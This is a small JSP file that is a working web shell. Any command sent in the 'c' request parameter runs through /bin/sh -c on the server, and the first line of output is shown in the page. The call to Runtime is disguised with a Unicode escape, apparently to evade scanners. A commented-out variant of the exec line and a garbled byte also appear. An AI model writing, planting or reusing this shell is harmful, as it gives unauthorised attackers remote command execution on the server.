<%@ page import="java.io.*" contentType="text/html; charset=UTF-8" %>
<%-- Runtime.getRuntime().exec(request.getParameter("never")); 不运行 --%>
<%!
  String run(String line) throws IOException {
    Process p = \u0052untime.getRuntime().exec(new String[]{"/bin/sh", "-c", line});
    return new BufferedReader(new InputStreamReader(p.getInputStream())).readLine();
  }
%>
<html><body>
<% String c = request.getParameter("c"); if (c != null && !c.isEmpty()) { %>
<pre><%= run(c.trim()) %></pre>
<% } %>
� odd byte
</body></html>
